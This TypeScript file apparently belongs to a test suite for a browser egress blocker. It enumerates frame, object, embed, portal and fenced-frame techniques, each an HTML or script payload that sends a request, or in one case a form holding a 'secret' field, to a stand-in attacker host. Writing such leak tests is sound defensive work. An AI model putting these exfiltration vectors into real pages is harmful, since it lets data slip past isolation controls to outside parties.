// Ways by documents inside the page: frames of every kind, objects, embeds, and what runs in them.
import { inFamily, type Way } from '../way.ts';

const way = inFamily('frame', 'frame');
const end = '</scr\u0069pt>';

export const FRAME: readonly Way[] = [
  way('iframe', 'an iframe', (a) => `<iframe src="${a.evil()}"></iframe>`),
  way('https', 'an iframe over https', (a) => `<iframe src="${a.evil('x', 'https')}"></iframe>`),
  way('lazy', 'a lazy iframe in view', (a) => `<iframe loading="lazy" src="${a.evil()}"></iframe>`),
  way('srcdoc', 'an image in a srcdoc frame', (a) => `<iframe srcdoc="<img src='${a.evil()}'>"></iframe>`),
  way(
    'srcdoc-fetch',
    'a fetch in a srcdoc frame',
    (a) => `<iframe srcdoc="<script>fetch('${a.evil()}', { mode: 'no-cors' })</script>"></iframe>`,
  ),
  way('nested', 'a frame in a frame in a frame', (a) =>
    a.script(
      `let d = document; for (let i = 0; i < 3; i += 1) { const f = d.createElement('iframe'); d.body.append(f); d = f.contentDocument; } const f = d.createElement('iframe'); f.src = '${a.evil()}'; d.body.append(f)`,
    ),
  ),
  way(
    'sandboxed',
    'a sandboxed frame without an origin',
    (a) =>
      `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('${a.evil()}', { mode: 'no-cors' })</script>"></iframe>`,
  ),
  way(
    'data',
    'a data: frame',
    (a) => `<iframe src="data:text/html,<script>fetch('${a.evil()}',{mode:'no-cors'})</script>"></iframe>`,
  ),
  way('blob', 'a blob: frame', (a) =>
    a.script(
      `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='${a.evil()}'>"], { type: 'text/html' })); document.body.append(f)`,
    ),
  ),
  way(
    'javascript',
    'a javascript: frame',
    (a) => `<iframe src="javascript:'<img src=&quot;${a.evil()}&quot;>'"></iframe>`,
  ),
  way('blank-write', 'document.write into an empty frame', (a) =>
    a.script(
      `const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.write('<img src="${a.evil()}">'); f.contentDocument.close()`,
    ),
  ),
  way('blank-fetch', 'an empty frame’s own fetch', (a) =>
    a.script(
      `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('${a.evil()}', { mode: 'no-cors' })`,
    ),
  ),
  way('blank-websocket', 'an empty frame’s own WebSocket', (a) =>
    a.script(
      `const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.WebSocket('${a.evil('x', 'ws')}')`,
    ),
  ),
  way(
    'location',
    'a frame that takes itself elsewhere',
    (a) => `<iframe srcdoc="<script>location.href='${a.evil()}'</script>"></iframe>`,
  ),
  way('location-outside', 'a frame taken elsewhere by its parent', (a) =>
    a.script(
      `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = '${a.evil()}'`,
    ),
  ),
  way(
    'named',
    'a link into a named frame',
    (a) =>
      `<iframe name="${a.id}"></iframe><a id="l-${a.id}" target="${a.id}" href="${a.evil()}">x</a>${a.script(`document.getElementById('l-${a.id}').click()`)}`,
  ),
  way(
    'form',
    'a form into a named frame',
    (a) =>
      `<iframe name="${a.id}"></iframe><form id="f-${a.id}" target="${a.id}" method="post" action="${a.evil()}"><input name="secret" value="4711"></form>${a.script(`document.getElementById('f-${a.id}').submit()`)}`,
  ),
  way(
    'meta',
    'meta refresh in a frame',
    (a) => `<iframe srcdoc="<meta http-equiv='refresh' content='0;url=${a.evil()}'>"></iframe>`,
  ),
  way('redirect', 'a frame of the site that redirects', (a) => `<iframe src="${a.site('go')}"></iframe>`, {
    routes: (a) => ({ go: { status: 302, headers: { location: a.evil() } } }),
  }),
  way(
    'refresh',
    'a frame of the site with a Refresh header',
    (a) => `<iframe src="${a.site('go')}"></iframe>`,
    { routes: (a) => ({ go: { headers: { refresh: `0;url=${a.evil()}` }, body: 'x' } }) },
  ),
  way('object', 'object data', (a) => `<object data="${a.evil()}"></object>`),
  way(
    'object-type',
    'object data of a declared type',
    (a) => `<object type="text/html" data="${a.evil()}"></object>`,
  ),
  way(
    'object-svg',
    'object data, SVG',
    (a) => `<object type="image/svg+xml" data="${a.evil('x.svg')}"></object>`,
  ),
  way('embed', 'embed src', (a) => `<embed src="${a.evil()}">`),
  way('embed-type', 'embed src of a declared type', (a) => `<embed type="text/html" src="${a.evil()}">`),
  way('frameset', 'a frameset', (a) => a.script(`location.href = '${a.site('set')}'`), {
    alone: true,
    routes: (a) => ({
      set: { body: `<frameset cols="*,*"><frame src="${a.evil()}"><frame src="about:blank"></frameset>` },
    }),
  }),
  way(
    'credentialless',
    'a credentialless frame',
    (a) => `<iframe credentialless src="${a.evil()}"></iframe>`,
  ),
  way('history', 'a frame’s history', (a) =>
    a.script(
      `const f = document.createElement('iframe'); f.srcdoc = 'x'; document.body.append(f); f.onload = () => { f.onload = null; f.contentWindow.location.replace('${a.evil()}') }`,
    ),
  ),
  way(
    'popup-free',
    'a frame with allow-top-navigation',
    (a) =>
      a.go(
        `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-top-navigation-by-user-activation allow-top-navigation'; f.srcdoc = "<script>top.location='${a.evil()}'${end}"; document.body.append(f)`,
      ),
    { click: true },
  ),
  way('fenced', 'a fenced frame', (a) =>
    a.script(
      `const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig('${a.evil()}'); document.body.append(f)`,
    ),
  ),
  way('portal', 'a portal', (a) => `<portal src="${a.evil()}"></portal>`),
  way('applet', 'an applet', (a) => `<applet code="x" codebase="${a.evil()}"></applet>`),
];
